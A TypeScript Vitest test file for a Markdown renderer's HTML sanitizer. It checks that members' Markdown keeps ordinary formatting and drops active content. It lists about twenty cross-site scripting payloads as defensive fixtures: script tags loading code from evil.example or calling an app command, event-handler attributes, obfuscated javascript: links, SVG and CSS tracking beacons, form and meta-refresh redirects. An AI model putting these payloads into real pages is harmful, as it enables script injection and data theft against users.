import { describe, expect, it } from 'vitest';
import { renderMarkdown, snippetHtml } from './markdown';

// Parses rendered HTML and returns the elements, for structural checks.
function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

function noActiveContent(html: string) {
  const root = dom(html);
  expect(root.querySelector('script, iframe, frame, object, embed, style, svg, math, form, link, meta, base')).toBeNull();
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      expect(attr.startsWith('on'), `${el.tagName} has ${attr}`).toBe(false);
      expect(attr).not.toBe('style');
    }
    for (const a of ['href', 'src', 'xlink:href', 'action', 'formaction']) {
      const v = el.getAttribute(a) ?? '';
      expect(v.replace(/\s/g, '').toLowerCase()).not.toMatch(/^(javascript|vbscript|data:text)/);
    }
  }
}

describe('renderMarkdown sanitizes members\u2019 Markdown', () => {
  it('keeps ordinary formatting', () => {
    const html = renderMarkdown('# Sepsis\n\n1. **qSOFA** ≥ 2\n2. [guideline](https://example.org/sepsis)\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    const root = dom(html);
    expect(root.querySelector('h1')?.textContent).toBe('Sepsis');
    expect(root.querySelector('strong')?.textContent).toBe('qSOFA');
    expect(root.querySelector('table')).not.toBeNull();
    const a = root.querySelector('a');
    expect(a?.getAttribute('href')).toBe('https://example.org/sepsis');
    expect(a?.getAttribute('rel')).toContain('noopener');
  });

  const payloads: [string, string][] = [
    ['script tag', '<script>window.__TAURI_INTERNALS__.invoke("member_remove")</script>hello'],
    ['script in markdown html block', 'text\n\n<div><script src="https://evil.example/x.js"></script></div>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['img onerror', '<img src="x" onerror="alert(1)">'],
    ['markdown image onerror-ish', '![x](x" onerror="alert(1))'],
    ['javascript: link (markdown)', '[click](javascript:alert(1))'],
    ['javascript: link (html)', '<a href="javascript:alert(1)">click</a>'],
    ['obfuscated javascript: link', '<a href="  jav&#x09;ascript:alert(1)">click</a>'],
    ['data:text/html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['svg with script', '<svg><script>alert(1)</script><circle r="5"/></svg>'],
    ['svg onload', '<svg onload="alert(1)"></svg>'],
    ['svg use xlink', '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/></svg>'],
    ['math', '<math><mtext><script>alert(1)</script></mtext></math>'],
    ['style tag', '<style>body{background:url(https://evil.example/track)}</style>'],
    ['style attribute', '<p style="background:url(https://evil.example/track)">x</p>'],
    ['css expression', '<div style="width: expression(alert(1))">x</div>'],
    ['form and button', '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>'],
    ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['base href', '<base href="https://evil.example/">'],
    ['details ontoggle', '<details open ontoggle="alert(1)"><summary>x</summary></details>'],
  ];
  for (const [name, payload] of payloads) {
    it(`neutralizes ${name}`, () => noActiveContent(renderMarkdown(payload)));
  }

  it('never loads remote images', () => {
    const root = dom(renderMarkdown('![scan](https://evil.example/pixel.png)\n<img src="http://evil.example/p.gif">'));
    for (const img of root.querySelectorAll('img')) expect(img.getAttribute('src')).toBeNull();
  });

  it('keeps embedded data images', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const root = dom(renderMarkdown(`![ecg](${png})`));
    expect(root.querySelector('img')?.getAttribute('src')).toBe(png);
  });
});

describe('snippetHtml', () => {
  it('marks matches and escapes everything else', () => {
    expect(snippetHtml('a «sepsis» <b>x</b>')).toBe('a <mark>sepsis</mark> &lt;b&gt;x&lt;/b&gt;');
  });
});
